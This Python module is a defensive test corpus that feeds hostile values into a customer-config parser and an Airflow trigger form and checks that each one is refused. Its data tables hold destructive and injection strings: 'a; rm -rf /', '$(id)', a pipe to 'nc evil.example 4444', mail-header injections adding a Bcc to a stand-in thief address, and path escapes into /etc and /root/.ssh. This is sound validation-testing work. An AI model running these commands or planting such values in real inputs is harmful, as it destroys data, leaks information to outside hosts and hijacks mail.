"""A corpus of hostile customer-config and trigger-form values, and the rules every refusal must follow.

Each case mutates one field of a valid customer config (or one trigger-form value) with a value of one
hostile class; the class and the field's kind say whether the value must be refused. The same table
drives the tests (``test_hostile_inputs.py``) and a report anyone can run:

    .venv/bin/python tests/unit/config/hostile_corpus.py      # prints the corpus size and the counts

The kinds of field:
- ``strict``: reaches a shell, a file name, SQL, a URL or a mail address (ids, versions, paths, hosts,
  e-mail addresses, connection ids, programs, arguments): ASCII only, no shell metacharacters.
- ``argument``: a strict command-line argument (always quoted when sent), where an inner space or a
  leading ``-`` is legitimate.
- ``path``: a strict absolute path that is also confined (no system directory, no ``..``).
- ``line``: free text on one line (names, the deadline reason, titles): any script, no control
  character, bounded length.
- ``text``: free text over several lines (questionnaire answers, queries, expected output): newlines
  and tabs allowed, no other control character, bounded length.
- ``number``: bounded numbers.
"""

from __future__ import annotations

import copy
import math
import re
import sys
import time
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

REPO = Path(__file__).resolve().parents[3]
EXAMPLE_CONFIG = REPO / "include" / "customers" / "acme.yaml"

MAX_MESSAGE_LINE = 1_000
"""No refusal line may be longer: a megabyte of input is never echoed back."""

# --- hostile values, by class ------------------------------------------------------------------

CONTROL = {
    "NUL": "a\x00b",
    "BEL": "a\x07b",
    "backspace": "a\x08b",
    "vertical tab": "a\x0bb",
    "form feed": "a\x0cb",
    "CR": "a\rb",
    "CRLF header injection": "a\r\nBcc: thief@evil.example",
    "ESC sequence": "a\x1b[31mred\x1b[0m",
    "DEL": "a\x7fb",
    "C1 NEL": "a\x85b",
    "C1 CSI": "a\x9b31mb",
    "line separator U+2028": "a\u2028b",
    "paragraph separator U+2029": "a\u2029b",
    "right-to-left override": "invoice\u202egpj.exe",
    "left-to-right isolate": "a\u2066b\u2069",
    "zero-width space": "a\u200bb",
    "byte order mark": "\ufeffab",
    "lone surrogate": "a\ud800b",
}
"""Refused in every string field."""

LINE_BREAKS = {
    "LF": "a\nb",
    "LF header injection": "subject\nBcc: thief@evil.example",
    "TAB": "a\tb",
}
"""Refused in one-line fields; allowed in multi-line text."""

NON_ASCII = {
    "full-width digits": "\uff11\uff11.\uff11.\uff10",
    "Arabic-Indic digits": "\u0661\u0661.\u0661.\u0660",
    "Devanagari digits": "\u0967\u0967.\u0967.\u0966",
    "Cyrillic a": "\u0430cme",
    "full-width letters": "\uff41cme",
    "accented": "caf\u00e9",
    "superscript two": "1\u00b2.0.0",
}
"""Refused in strict fields (accepted in free text, where they are a customer's own words)."""

SHELL = {
    "command separator": "a; rm -rf /",
    "command substitution": "$(id)",
    "backticks": "`id`",
    "pipe": "a|nc evil.example 4444",
    "and": "a&&b",
    "redirect": "a>/etc/passwd",
    "single quote": "a'b",
    "double quote": 'a"b',
    "space": "a b",
    "backslash": "a\\b",
    "glob": "*",
    "tilde": "~root",
    "option injection": "--help",
    "variable": "${HOME}",
}
"""Refused in strict fields."""

PATHS = {
    "root": "/",
    "etc": "/etc",
    "etc below": "/etc/cron.d/crm",
    "root ssh": "/root/.ssh",
    "a user's ssh": "/home/crm/.ssh/backups",
    "usr": "/usr/lib/crm",
    "boot": "/boot",
    "proc": "/proc/self",
    "dot-dot escape": "/tmp/crm-estate/hosts/dev/crm/../../../../../etc",
    "relative": "crm/acme",
    "double slash root": "//etc",
    "trailing dot-dot": "/tmp/crm-estate/..",
}
"""Refused in path fields."""

OVERSIZE = {
    "one megabyte": "x" * 1_000_000,
    "100k of a multi-byte letter": "\u00e9" * 100_000,
}
"""Refused in every string field."""

NUMBERS: dict[str, Any] = {
    "negative": -1,
    "huge integer": 10**400,
    "2**63": 2**63,
    "infinity": math.inf,
    "minus infinity": -math.inf,
    "NaN": math.nan,
    "float overflow text": "1e400",
    "boolean": True,
    "numeric string": "5",
    "list": [1],
}
"""Refused in number fields."""

# --- the fields of the example config, by kind ---------------------------------------------------

FIELDS: dict[str, str] = {
    "customer_id": "strict",
    "name": "line",
    "contacts.customer[0].name": "line",
    "contacts.customer[0].email": "strict",
    "contacts.consultant[0].email": "strict",
    "contacts.consultant[0].user": "strict",
    "request_case.case_id": "strict",
    "request_case.deadline_reason": "line",
    "request_case.customizations[0]": "line",
    "questionnaire.location": "line",
    "questionnaire.answers.Custom modules": "text",
    "versions.current": "strict",
    "versions.target": "strict",
    "release_source.conn_id": "strict",
    "release_source.product": "strict",
    "environments.dev.ssh_conn_id": "strict",
    "environments.uat.db_conn_id": "strict",
    "environments.dev.install_path": "path",
    "environments.uat.staging_path": "path",
    "environments.prod.backup_path": "path",
    "environments.prod.backup_retention": "number",
    "test_cases[0].id": "strict",
    "test_cases[0].title": "line",
    "test_cases[0].argv[0]": "strict",
    "test_cases[0].argv[1]": "argument",
    "test_cases[0].expect.exit_code": "number",
    "test_cases[1].query": "text",
    "calendar.timezone": "strict",
    "users.consultant[0]": "strict",
}

STRING_KINDS = ("strict", "argument", "path", "line", "text")
ARGUMENT_MAY_HOLD = ("space", "option injection")
"""Shell-class values an argument may legitimately hold (arguments are passed quoted, never to a shell)."""


@dataclass(frozen=True)
class Case:
    """One mutation of the example config: ``field`` set to ``value`` (of class ``group/label``)."""

    field: str
    kind: str
    group: str
    label: str
    value: Any
    must_refuse: bool

    @property
    def id(self) -> str:
        return f"{self.field}={self.group}:{self.label}"


def must_refuse(kind: str, group: str) -> bool:
    """Whether a value of hostile class ``group`` must be refused in a field of ``kind``."""
    if kind == "number":
        return group == "numbers"
    if group in ("control", "oversize"):
        return True
    if group == "line breaks":
        return kind != "text"
    if group in ("non-ascii", "shell"):
        return kind in ("strict", "argument", "path")
    if group == "paths":
        return kind == "path"
    return False


def groups_for(kind: str) -> dict[str, dict[str, Any]]:
    if kind == "number":
        return {"numbers": NUMBERS, "control": {"text": "five"}}
    return {
        "control": CONTROL,
        "line breaks": LINE_BREAKS,
        "non-ascii": NON_ASCII,
        "shell": SHELL,
        "paths": PATHS,
        "oversize": OVERSIZE,
    }


def config_cases() -> list[Case]:
    """Every field x every hostile value of every class that applies to it."""
    cases = []
    for field, kind in FIELDS.items():
        for group, values in groups_for(kind).items():
            for label, value in values.items():
                refuse = must_refuse(kind, group) and not (kind == "argument" and label in ARGUMENT_MAY_HOLD)
                cases.append(Case(field, kind, group, label, value, refuse))
    return cases


# --- the trigger form ---------------------------------------------------------------------------

TRIGGER_FIELDS: dict[str, str] = {
    "case_id": "strict",
    "target_version": "strict",
    "deadline_reason": "line",
    "earliest_start": "date",
    "ideal_start": "date",
    "deadline": "date",
    "seconds_per_business_day": "rehearsal",
}

BAD_DATES: dict[str, Any] = {
    "compact ISO": "20270104",
    "ISO week": "2027-W01-1",
    "full-width digits": "\uff12\uff10\uff12\uff17-01-04",
    "with time": "2027-01-04T00:00:00",
    "month 13": "2027-13-01",
    "empty-ish": " ",
    "number": 20270104,
    "NUL": "2027-01-04\x00",
    "trailing newline": "2027-01-04\n",
    "one megabyte": "2" * 1_000_000,
}

BAD_REHEARSAL: dict[str, Any] = {
    "zero": 0,
    "negative": -5,
    "huge integer": 10**400,
    "above a day": 86_401,
    "infinity": math.inf,
    "NaN": math.nan,
    "text": "fast",
    "boolean": True,
    "float overflow text": "1e400",
}


def trigger_cases() -> list[Case]:
    """Every trigger-form field x its hostile values; all must be refused by the form and the first task."""
    cases = []
    for field, kind in TRIGGER_FIELDS.items():
        if kind == "date":
            groups = {"dates": BAD_DATES}
        elif kind == "rehearsal":
            groups = {"numbers": BAD_REHEARSAL}
        else:
            groups = groups_for(kind)
        for group, values in groups.items():
            for label, value in values.items():
                refuse = True if kind in ("date", "rehearsal") else must_refuse(kind, group)
                cases.append(Case(field, kind, group, label, value, refuse))
    return cases


# --- applying a case ------------------------------------------------------------------------------

_STEP = re.compile(r"([^.\[\]]+)|\[(\d+)\]")


def steps(field: str) -> list[str | int]:
    """``"contacts.customer[0].name"`` -> ``["contacts", "customer", 0, "name"]``."""
    return [int(index) if index else name for name, index in _STEP.findall(field)]


def example_data() -> dict[str, Any]:
    return yaml.safe_load(EXAMPLE_CONFIG.read_text())


def mutated(data: dict[str, Any], field: str, value: Any) -> dict[str, Any]:
    """A deep copy of ``data`` with ``field`` set to ``value`` (and the user lists kept consistent)."""
    result = copy.deepcopy(data)
    *parents, last = steps(field)
    node: Any = result
    for step in parents:
        node = node[step]
    node[last] = value
    if field == "contacts.consultant[0].user" and isinstance(value, str):  # keep the gate's user listed
        result["users"]["consultant"][0] = value
    return result


RELATED_FIELDS = {"contacts.consultant[0].user": ("users.consultant",)}
"""Fields whose problem may be reported at the field that refers to them (cross-field rules)."""


def field_named(line: str, field: str) -> bool:
    """Whether a ``<file>: <field.path>: <problem>`` line names ``field`` (or a part of it)."""
    parts = line.split(": ", 2)
    if len(parts) < 3:
        return False
    named = parts[1]
    if any(named.startswith(related) for related in RELATED_FIELDS.get(field, ())):
        return True
    return named == field or named.startswith((f"{field}.", f"{field}[")) or field.startswith(f"{named}.")


# --- running the corpus ---------------------------------------------------------------------------


@dataclass
class Outcome:
    case: Case
    refused: bool
    problems: tuple[str, ...]
    crash: str | None = None


def run_config_case(case: Case, data: dict[str, Any] | None = None) -> Outcome:
    from managed_upgrade.config import CustomerConfigError, parse_customer_config

    source = "include/customers/acme.yaml"
    try:
        parse_customer_config(mutated(data or example_data(), case.field, case.value), source)
    except CustomerConfigError as exc:
        return Outcome(case, True, exc.problems)
    except Exception as exc:
        return Outcome(case, False, (), crash=f"{type(exc).__name__}: {str(exc)[:200]}")
    return Outcome(case, False, ())


def run_trigger_case(case: Case) -> tuple[Outcome, Outcome]:
    """``(the form's JSON schema, the first task's settings_from_conf)`` outcomes of one case."""
    from airflow.sdk.definitions.param import ParamValidationError

    from managed_upgrade.config import load_customer_config
    from managed_upgrade.config.run_settings import settings_from_conf
    from managed_upgrade_airflow.operators.request_case import request_case_defaults
    from managed_upgrade_airflow.trigger_params import trigger_params

    config = load_customer_config(EXAMPLE_CONFIG)
    param = copy.deepcopy(trigger_params(config)[case.field])
    try:
        param.resolve(case.value)
    except (ParamValidationError, ValueError) as exc:
        form = Outcome(case, True, (str(exc)[:MAX_MESSAGE_LINE],))
    except Exception as exc:
        form = Outcome(case, False, (), crash=f"{type(exc).__name__}: {str(exc)[:200]}")
    else:
        form = Outcome(case, False, ())
    conf = {**request_case_defaults(config), case.field: case.value}
    try:
        settings, problems = settings_from_conf(conf)
    except Exception as exc:
        task = Outcome(case, False, (), crash=f"{type(exc).__name__}: {str(exc)[:200]}")
    else:
        task = Outcome(case, settings is None, tuple(problems))
    return form, task


def unsafe_characters(text: str, kind: str) -> list[str]:
    """Characters a stored value of ``kind`` must never hold (names of the offending code points)."""
    allowed_breaks = "\n\t" if kind == "text" else ""
    bad = []
    for char in text:
        category = unicodedata.category(char)
        if char in allowed_breaks:
            continue
        if category in ("Cc", "Cf", "Cs", "Zl", "Zp", "Co", "Cn") or (
            kind in ("strict", "path") and ord(char) > 127
        ):
            bad.append(f"U+{ord(char):04X}")
    return bad


def iter_strings(value: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """Every string (and mapping key) inside a dumped model, with its dotted path."""
    if isinstance(value, str):
        yield path, value
    elif isinstance(value, dict):
        for key, item in value.items():
            if isinstance(key, str):
                yield f"{path}.<key>", key
            yield from iter_strings(item, f"{path}.{key}" if path else str(key))
    elif isinstance(value, list | tuple):
        for index, item in enumerate(value):
            yield from iter_strings(item, f"{path}[{index}]")


def report() -> int:
    """Run the whole corpus; print the counts; exit status 1 on any crash or wrong acceptance."""
    started = time.monotonic()
    config = [run_config_case(case) for case in config_cases()]
    trigger = [run_trigger_case(case) for case in trigger_cases()]
    crashes = [o for o in config if o.crash] + [o for pair in trigger for o in pair if o.crash]
    wrongly_accepted = [o for o in config if o.case.must_refuse and not o.refused and not o.crash] + [
        o for pair in trigger for o in pair if o.case.must_refuse and not o.refused and not o.crash
    ]
    unnamed = [o for o in config if o.refused and not any(field_named(p, o.case.field) for p in o.problems)]
    too_long = [o for o in config if any(len(p) > MAX_MESSAGE_LINE for p in o.problems)]
    refused = sum(o.refused for o in config) + sum(o.refused for pair in trigger for o in pair)
    print(f"config cases:  {len(config)} ({len(FIELDS)} fields)")
    print(f"trigger cases: {len(trigger)} x (form, first task) ({len(TRIGGER_FIELDS)} fields)")
    print(f"refused: {refused}; must-refuse accepted: {len(wrongly_accepted)}; crashes: {len(crashes)}")
    print(
        f"refusals not naming the field: {len(unnamed)}; lines over {MAX_MESSAGE_LINE} chars: {len(too_long)}"
    )
    print(f"seconds: {time.monotonic() - started:.1f}")
    for outcome in (crashes + wrongly_accepted + unnamed + too_long)[:40]:
        problems = [line[:160] for line in outcome.problems]
        print(f"  {outcome.case.id[:120]!r}: crash={outcome.crash} problems={problems}")
    return 1 if crashes or wrongly_accepted or unnamed or too_long else 0


if __name__ == "__main__":
    sys.path[:0] = [str(REPO / "include"), str(REPO / "plugins")]
    sys.exit(report())
